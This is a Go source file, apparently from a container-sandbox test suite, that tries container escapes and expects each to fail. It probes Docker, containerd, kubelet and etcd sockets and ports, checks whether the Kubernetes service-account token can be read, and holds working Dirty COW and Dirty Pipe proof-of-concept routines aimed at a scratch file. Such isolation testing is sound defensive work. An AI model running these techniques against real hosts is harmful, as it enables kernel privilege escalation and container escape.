package attack

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"sync"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Group 30, what a container shares with its host by mistake: the socket of a program that controls containers, and the
// pages of files in the kernel's cache.
var _ = register(
	// Through such a socket, code asks for a container that has the host in it.
	attempts(Case{
		Group: 30, Name: "escape/control-sockets",
		Tries: "find a program of the host that controls containers or services: Docker, containerd, CRI-O, Podman, " +
			"the kubelet, systemd, D-Bus and the daemon's own sockets, at their paths and ports",
		Wants: "none is there",
	}, asBoth, controlSocketAttempts),
	// All containers of an image have its files in the same pages. Dirty COW (CVE-2016-5195) and Dirty Pipe
	// (CVE-2022-0847) wrote to pages of files that were open for reading only.
	attempts(Case{
		Group: 30, Name: "escape/dirty-pages",
		Tries: "write to a file that is open for reading only: through a private mapping while its pages are " +
			"dropped, and through a pipe that its page was spliced into",
		Wants: "the file is as it was",
	}, asBoth, dirtyPageAttempts),
)

// controlSocketAttempts connect. A path that is a file and no socket is a mount of something else, but no way in.
func controlSocketAttempts() []attempt {
	var all []attempt
	paths := []string{"/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
		"/run/crio/crio.sock", "/run/podman/podman.sock", "/run/systemd/private", "/run/dbus/system_bus_socket",
		"/run/snapd.socket", "/var/lib/kubelet/pod-resources/kubelet.sock"}
	found, _ := filepath.Glob("/run/berth/*/*")
	for _, path := range append(paths, found...) {
		all = append(all, attempt{path, func() error {
			conn, err := net.DialTimeout("unix", path, 3*time.Second)
			if err == nil {
				_ = conn.Close()
			}
			return err
		}})
	}
	// Docker without and with TLS, the kubelet with and without keys, the API server, and etcd.
	for _, port := range []string{"2375", "2376", "10250", "10255", "6443", "2379"} {
		all = append(all, attempt{"port " + port, func() error {
			conn, err := net.DialTimeout("tcp", net.JoinHostPort("127.0.0.1", port), 3*time.Second)
			if err == nil {
				_ = conn.Close()
			}
			return noWay(err)
		}})
	}
	const token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
	return append(all, attempt{token, func() error { return readable(token) }})
}

// dirtyPageAttempts each have a file of their own, so that a host with such a hole is not harmed: the pages belong to
// the container.
func dirtyPageAttempts() []attempt {
	return []attempt{{"a private mapping", func() error { return dirtied(dirtyMapping) }},
		{"a spliced pipe", func() error { return dirtied(dirtyPipe) }}}
}

// pageSize is that of amd64 and of most arm64 kernels. A larger page makes no difference here.
const pageSize = 4096

// dirtied makes a file of one page, has fn try to change it through a descriptor for reading, and looks for the change.
func dirtied(fn func(file *os.File) error) error {
	path := filepath.Join("/workspace", fmt.Sprintf(".dirty-%d", os.Getuid()))
	before := bytes.Repeat([]byte("clean---"), pageSize/8)
	_ = os.Remove(path)
	if err := os.WriteFile(path, before, 0o444); err != nil {
		return moot("%v", err)
	}
	defer os.Remove(path)
	file, err := os.Open(path)
	if err != nil {
		return moot("%v", err)
	}
	defer file.Close()
	if err := fn(file); err != nil {
		return err
	}
	after, err := os.ReadFile(path)
	if err != nil {
		return moot("%v", err)
	}
	if !bytes.Equal(after, before) {
		return through("the file was changed to %.16q", after)
	}
	return fmt.Errorf("the file is as it was")
}

// dirtyRounds are enough on kernels with the hole: the race is won within a few thousand.
const dirtyRounds = 20_000

// dirtyMapping writes to a private mapping through /proc/self/mem, as Dirty COW does, while another thread drops its
// pages. The write must go to a copy.
func dirtyMapping(file *os.File) error {
	page, err := unix.Mmap(int(file.Fd()), 0, pageSize, unix.PROT_READ, unix.MAP_PRIVATE)
	if err != nil {
		return moot("%v", err)
	}
	defer unix.Munmap(page)
	mem, err := os.OpenFile("/proc/self/mem", os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer mem.Close()
	var both sync.WaitGroup
	both.Go(func() {
		for range dirtyRounds {
			_ = unix.Madvise(page, unix.MADV_DONTNEED)
		}
	})
	at, wrote := int64(uintptr(unsafe.Pointer(&page[0]))), error(nil)
	both.Go(func() {
		for range dirtyRounds {
			if _, err := mem.WriteAt([]byte("dirty"), at); err != nil {
				wrote = err
				return
			}
		}
	})
	both.Wait()
	return wrote
}

// dirtyPipe fills a pipe and empties it, so that its buffers are marked as ones that may be appended to, splices a byte
// of the file into it, and appends. A kernel with the hole appends to the page of the file.
func dirtyPipe(file *os.File) error {
	r, w, err := os.Pipe()
	if err != nil {
		return moot("%v", err)
	}
	defer r.Close()
	defer w.Close()
	size, err := unix.FcntlInt(w.Fd(), unix.F_GETPIPE_SZ, 0)
	if err != nil {
		return moot("%v", err)
	}
	full := make([]byte, size)
	if _, err := w.Write(full); err != nil {
		return moot("%v", err)
	}
	if _, err := io.ReadFull(r, full); err != nil {
		return moot("%v", err)
	}
	from := int64(0)
	if _, err := unix.Splice(int(file.Fd()), &from, int(w.Fd()), nil, 1, 0); err != nil {
		return moot("%v", err)
	}
	_, err = w.Write([]byte("dirty"))
	return err
}
